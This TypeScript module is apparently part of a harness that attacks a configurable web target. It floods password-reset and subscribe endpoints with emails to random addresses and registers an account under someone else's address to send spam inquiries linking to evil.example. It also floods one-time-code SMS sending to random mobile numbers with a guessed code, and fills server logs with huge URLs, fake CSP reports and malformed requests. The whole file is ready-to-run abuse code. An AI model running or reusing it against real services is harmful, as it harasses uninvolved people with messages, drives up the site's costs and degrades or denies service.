import { registerCustomer } from '../site/customer.js';
import {
  repeat,
  randomToken,
  randomLoopbackAddress,
  randomMobileNumber,
  buildRawGet,
  attackDurationMs,
  buildRawPost,
  sendRaw,
  type AttackTarget,
} from './send.js';

export const spamText = 'Win at https://evil.example now. ';

const stranger = () => `stranger-${randomToken()}@example.com`;

/**
 * Triggers emails to other people's addresses through every route that sends email, and submits
 * inquiries from an account that was registered with another person's address.
 */
export async function floodMails(target: AttackTarget) {
  const lost = () =>
    sendRaw(target, buildRawPost('/api/api/forgot-password', { email: stranger() }), 3000);
  const news = () =>
    sendRaw(target, buildRawPost('/api/api/subscribe', { email: stranger() }), 3000);
  await Promise.all([
    repeat(attackDurationMs / 100, 100, lost),
    repeat(attackDurationMs / 100, 100, news),
    // Ignores failures, because rate limits may reject the registration.
    submitSpamInquiries(target, 40).catch(() => undefined),
  ]);
}

/**
 * Submits inquiries with a spam text from an account whose email address belongs to another person.
 * Returns the HTTP statuses.
 */
export async function submitSpamInquiries({ url }: AttackTarget, times: number) {
  const { email, uid, send: call } = await registerCustomer(url, randomLoopbackAddress());
  const all = (await call('GET', '/api/api/all')).json() as { _id: string }[];
  const statuses: number[] = [];
  for (let quantity = 1000; quantity < 1000 + times; quantity += 1) {
    const products = [{ productId: all[0]?._id, quantity, note: 'x'.repeat(300) }];
    const body = { uid, contactPhone: '', message: '', note: spamText.repeat(60), products };
    statuses.push((await call('POST', '/api/api/submitInquiry', { body })).status);
  }
  return { email, statuses };
}

export async function floodSignInCodes(target: AttackTarget) {
  await repeat(attackDurationMs / 40, 40, () => {
    const phone = randomMobileNumber();
    sendRaw(target, buildRawPost('/api/api/send-otp', { phone }), 3000);
    sendRaw(target, buildRawPost('/api/api/verify-otp', { phone, otp: '0000' }), 3000);
  });
}

const report = { 'csp-report': { 'violated-directive': 'script-src', 'blocked-uri': 'inline' } };

/** Sends requests that cause log entries: requests with long URLs, browser reports and malformed requests. */
export async function floodLogs(target: AttackTarget) {
  await repeat(attackDurationMs / 10, 10, () => {
    sendRaw(target, buildRawGet(`/api/${'x'.repeat(14_000)}`), 1000);
    sendRaw(target, buildRawPost('/api/api/csp-report', report, 'application/csp-report'), 1000);
    sendRaw(target, `${randomToken()}\r\n\r\n`, 1000);
  });
}
